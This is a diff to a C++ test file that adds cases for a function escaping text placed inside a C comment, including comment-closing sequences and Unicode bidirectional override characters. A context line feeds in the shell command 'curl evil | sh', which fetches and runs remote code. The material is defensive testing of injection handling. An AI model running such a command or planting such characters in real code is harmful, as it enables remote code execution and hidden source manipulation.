@@ -159,6 +159,9 @@ TEST_CASE("comment_safe: one line inside a C comment, whatever the text") {
   CHECK(comment_safe("X*\\\r/ .globl evil") == "X*\\^M/ .globl evil");
   CHECK(comment_safe(std::string("a\nb\x7f\0c", 6)) == "a^Jb^?^@c");
   CHECK(comment_safe("x\n * Command: curl evil | sh").find('\n') == std::string::npos);
+  CHECK(comment_safe("a/*b") == "a/ *b");
+  CHECK(comment_safe("\xe2\x80\xae" "evil" "\xe2\x81\xa6" " " "\xc2\x85") == "<U+202E>evil<U+2066> <U+0085>");
+  CHECK(comment_safe("caf\xc3\xa9") == "caf\xc3\xa9");  // other UTF-8 as it is
 }
 
 TEST_CASE("the grid covers every operation, width, unroll factor, NOP form and loop alignment") {
